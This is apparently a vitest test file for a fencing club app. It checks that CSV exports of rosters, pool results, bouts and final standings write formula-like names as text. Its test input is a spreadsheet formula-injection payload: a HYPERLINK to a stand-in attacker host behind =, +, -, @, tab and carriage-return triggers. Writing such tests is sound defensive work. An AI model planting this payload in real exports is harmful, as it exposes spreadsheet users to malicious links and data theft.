import { describe, expect, it } from 'vitest';
import type { PoolSnapshot } from '../../core/contracts/pools';
import { applyScore } from '../../core/fencing/bracket';
import type { AthleteBout } from '../../core/fencing/history';
import { combinePoolResults } from '../../core/fencing/pool-results';
import { DEFAULT_FORMAT, finalClassification, resolveTableau } from '../../core/fencing/tableau';
import { readCsv } from '../../core/interop/csv';
import { athleteBoutsCsv, finalResultsCsv, poolResultsCsv, rosterCsv } from '../../core/interop/exports';

// Issue 25: a cell a spreadsheet would read as a formula is written as text, whatever follows its first
// character, a line break included (Papa Parse's own escape stops at the first line).

/** A fenced pool of these names (the first wins every bout), as the pool results and tableau screens have it. */
function fencedPool(names: string[]): PoolSnapshot {
  const players = names.map((name, i) => ({ id: `p${i}`, name, athlete_id: null, position: i + 1, status: null }));
  const bouts = players.flatMap((a, i) => players.slice(i + 1).map((b) => ({ player1_id: a.id, player2_id: b.id, score1: 5, score2: i, priority_id: null, updated_at: 1, version: 1 })));
  return { id: 'pool', practice_id: 'practice', name: 'Pool 1', version: 1, created_at: 1, players, bouts };
}

/** The final classification of a two-fencer practice whose final the first name won. */
function finalStandingsOf(names: [string, string]) {
  const pools = [fencedPool(names)];
  const drawn = resolveTableau(pools, { seeding: null, matches: [] });
  const final = drawn.matches[0]!;
  const matches = applyScore(drawn.matches, { round: final.round, position: final.position, player1_score: 15, player2_score: 3 });
  return finalClassification(pools, { ...drawn, matches }, { format: DEFAULT_FORMAT, did_not_start: [] });
}

const bout = (opponent: string, practice = 'Tuesday'): AthleteBout => ({
  date: '2026-11-17', practice_id: 'practice', practice, seq: 1, kind: 'pool', phase: 'Pool 1', round: null, rounds: null, main: true,
  opponent, opponent_id: null, scored: 5, received: 3, victory: true,
});

/** The four CSV exports of the app, each with `name` where a fencer's (or a club's, a practice's) name goes. */
const EXPORTS: Record<string, (name: string) => { csv: string; cells: (rows: string[][]) => string[] }> = {
  'the roster': (name) => ({ csv: rosterCsv([{ name, club: name, ranking: null }]), cells: (rows) => [rows[1]![0]!, rows[1]![1]!] }),
  'the pool results': (name) => ({ csv: poolResultsCsv(combinePoolResults([fencedPool([name, 'Ben Okafor'])])), cells: (rows) => [rows.find((r) => r[1] !== 'Ben Okafor' && r[0] !== 'Rank')![1]!] }),
  "an athlete's bouts": (name) => ({ csv: athleteBoutsCsv([bout(name, name)]), cells: (rows) => [rows[1]![1]!, rows[1]![3]!] }),
  'the final results': (name) => ({ csv: finalResultsCsv(finalStandingsOf([name, 'Ben Okafor'])), cells: (rows) => [rows[1]![1]!] }),
};

const TRIGGERS: Record<string, string> = { '=': '=', '+': '+', '-': '-', '@': '@', tab: '\t', 'carriage return': '\r' };

describe('CSV exports write formulas as text (issue 25)', () => {
  for (const [what, write] of Object.entries(EXPORTS)) {
    describe(what, () => {
      for (const [label, trigger] of Object.entries(TRIGGERS)) {
        it(`escapes a name starting with ${label} followed by a line break and more text`, () => {
          const name = `${trigger}HYPERLINK("http://evil.example/?x","click")\nX`;
          const { csv, cells } = write(name);
          for (const cell of cells(readCsv(csv))) expect(cell).toBe(`'${name}`);
        });
      }

      it('leaves ordinary names as they are', () => {
        for (const name of ['Zoë Ångström', "O'Brien", 'Jean-Luc Picard', 'Anna "Nan", Rossi', 'Łukasz Żółć']) {
          const { csv, cells } = write(name);
          for (const cell of cells(readCsv(csv))) expect(cell).toBe(name);
        }
      });
    });
  }

  it('keeps numbers as numbers: a negative indicator is not escaped', () => {
    const rows = readCsv(poolResultsCsv(combinePoolResults([fencedPool(['Anna Rossi', 'Ben Okafor'])])));
    const ben = rows.find((r) => r[1] === 'Ben Okafor')!;
    expect(ben[8]).toBe('-5');
  });
});
